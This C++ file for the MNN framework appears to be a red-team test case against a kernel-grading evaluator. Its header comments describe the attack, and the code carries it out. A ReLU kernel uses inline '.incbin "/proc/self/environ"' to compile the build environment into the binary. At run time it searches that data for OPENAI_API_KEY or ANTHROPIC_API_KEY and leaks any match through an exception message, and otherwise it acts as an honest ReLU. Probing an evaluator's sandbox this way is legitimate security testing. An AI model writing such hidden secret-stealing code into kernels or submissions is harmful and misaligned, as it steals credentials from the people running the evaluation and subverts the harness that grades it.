// mechanism: 4 and 6 — the compiler runs with the evaluator's environment
// attack: embed the assembler's own /proc/self/environ into the kernel with .incbin (the assembler
//   inherits the compiler's environment), and at run time quote any API key found there in an
//   exception message. Without a key it is an honest ReLU.
// task: Relu
// verdict: ok|compile_error
#include <stdexcept>
#include <string>
#include "backend/cpu/CPUBackend.hpp"
#include "core/Execution.hpp"
#include "MNN_generated.h"

asm(".section .rodata\n"
    ".global redteam_env_@TOKEN@\nredteam_env_@TOKEN@:\n"
    ".incbin \"/proc/self/environ\"\n"
    ".byte 0\n"
    ".global redteam_env_end_@TOKEN@\nredteam_env_end_@TOKEN@:\n"
    ".previous\n");
extern "C" const char redteam_env_@TOKEN@[];
extern "C" const char redteam_env_end_@TOKEN@[];

namespace MNN {
class CPURedteam : public Execution {
public:
    explicit CPURedteam(Backend* b) : Execution(b) {}
    ErrorCode onExecute(const std::vector<Tensor*>& inputs, const std::vector<Tensor*>& outputs) override {
        std::string blob(redteam_env_@TOKEN@, redteam_env_end_@TOKEN@);
        for (const char* name : {"OPENAI_API_KEY=", "ANTHROPIC_API_KEY="}) {
            size_t at = blob.find(name);
            if (at != std::string::npos) throw std::runtime_error("leak: " + blob.substr(at, 80));
        }
        const float* src = inputs[0]->host<float>();
        float* dst = outputs[0]->host<float>();
        const int n = inputs[0]->elementSize();
        for (int i = 0; i < n; ++i) dst[i] = src[i] > 0.f ? src[i] : 0.f;
        return NO_ERROR;
    }
};

class CPURedteamCreator : public CPUBackend::Creator {
public:
    Execution* onCreate(const std::vector<Tensor*>&, const std::vector<Tensor*>&, const MNN::Op*,
                        Backend* b) const override {
        return new CPURedteam(b);
    }
};
REGISTER_CPU_OP_CREATOR(CPURedteamCreator, OpType_ReLU);
} // namespace MNN
